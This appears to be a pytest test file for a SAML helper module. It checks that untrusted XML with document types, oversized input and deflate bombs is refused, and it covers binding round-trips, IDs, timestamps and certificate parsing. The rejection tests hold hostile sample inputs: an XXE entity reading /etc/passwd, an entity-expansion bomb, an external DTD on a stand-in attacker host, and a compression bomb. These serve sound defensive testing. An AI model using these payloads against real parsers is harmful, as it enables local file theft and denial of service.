"""``webguard.saml``: the one parser for XML from outside refuses document types (XXE, entity
expansion) in any encoding and oversized input; the Redirect binding round-trips and bounds
its inflation; instants are SAML's form."""

from __future__ import annotations

import base64
import zlib
from datetime import UTC, datetime, timedelta, timezone

import pytest

from webguard import saml


def test_a_plain_saml_document_parses() -> None:
    root = saml.parse_untrusted(f'<samlp:Response xmlns:samlp="{saml.NS_PROTOCOL}" ID="_1"/>')
    assert root.tag == f"{{{saml.NS_PROTOCOL}}}Response"


@pytest.mark.parametrize(
    "text",
    [
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        b'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>',
        b'<!doctype r SYSTEM "http://attacker.example/r.dtd"><r/>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'.encode(
            "utf-16"
        ),
    ],
    ids=["xxe", "expansion", "external-dtd", "utf16"],
)
def test_a_document_type_is_refused(text: bytes) -> None:
    with pytest.raises(saml.UnsafeXML, match="document type"):
        saml.parse_untrusted(text)


def test_oversized_and_broken_xml_are_refused() -> None:
    with pytest.raises(saml.UnsafeXML, match="larger than"):
        saml.parse_untrusted(b"<a>" + b"x" * saml.MAX_MESSAGE_BYTES + b"</a>")
    with pytest.raises(saml.UnsafeXML, match="not well-formed"):
        saml.parse_untrusted("<a><b></a>")


def test_processing_instructions_are_dropped() -> None:
    root = saml.parse_untrusted('<a><?xml-stylesheet href="http://x.example"?><b/></a>')
    assert [child.tag for child in root] == ["b"]


def test_the_redirect_binding_round_trips() -> None:
    xml = f'<samlp:AuthnRequest xmlns:samlp="{saml.NS_PROTOCOL}" ID="_x"/>'.encode()
    assert saml.decode_redirect(saml.encode_redirect(xml)) == xml
    assert saml.decode_post(saml.encode_post(xml)) == xml


def test_a_deflate_bomb_is_refused() -> None:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = compressor.compress(b"A" * (saml.MAX_MESSAGE_BYTES * 4)) + compressor.flush()
    assert len(bomb) < 10_000
    with pytest.raises(saml.UnsafeXML, match="inflates past"):
        saml.decode_redirect(base64.b64encode(bomb).decode())


@pytest.mark.parametrize("value", ["", "éé", "bm90IGRlZmxhdGU="])
def test_bad_redirect_values_are_refused(value: str) -> None:
    with pytest.raises(saml.UnsafeXML):
        saml.decode_redirect(value)


def test_ids_are_xs_ids_and_unique() -> None:
    ids = {saml.new_id() for _ in range(100)}
    assert len(ids) == 100
    assert all(i.startswith("_") and len(i) == 41 for i in ids)


def test_instants_are_utc_with_z_and_parse_back() -> None:
    moment = datetime(2026, 1, 5, 10, 0, 0, 123456, tzinfo=timezone(timedelta(hours=2)))
    assert saml.instant(moment) == "2026-01-05T08:00:00Z"
    assert saml.parse_instant("2026-01-05T08:00:00Z") == datetime(2026, 1, 5, 8, tzinfo=UTC)
    assert saml.parse_instant("2026-01-05T09:00:00.5+01:00") == datetime(
        2026, 1, 5, 8, 0, 0, 500000, tzinfo=UTC
    )
    assert saml.parse_instant("9999-12-31T23:59:59Z") == datetime(
        9999, 12, 31, 23, 59, 59, tzinfo=UTC
    )
    for bad in (
        None,
        "",
        "tomorrow",
        "2026-01-05T08:00:00",
        5,
        "0001-01-01T00:00:00+01:00",  # before year 1 in UTC: OverflowError inside
        "9999-12-31T23:59:59-01:00",  # after year 9999 in UTC
    ):
        assert saml.parse_instant(bad) is None


def test_certificate_facts_read_pem_or_the_bare_base64_body() -> None:
    from tests.wrike_sp.saml_idp import key_pair

    keys = key_pair()
    from_pem = saml.certificate_facts(keys.cert_pem.decode())
    # The base64 body as ds:X509Certificate holds it, wrapped oddly: the same certificate.
    body = keys.cert_base64
    from_body = saml.certificate_facts("  " + body[:10] + "\n " + body[10:] + "\n")
    assert from_pem == from_body
    assert from_pem.pem == keys.cert_pem.decode()
    assert len(from_pem.fingerprint_sha256) == 64 and from_pem.fingerprint_sha256.islower()
    assert from_pem.not_after == datetime(2040, 1, 1, tzinfo=UTC)
    for bad in ("", "not a certificate", body[:-20]):
        with pytest.raises(ValueError):
            saml.certificate_facts(bad)
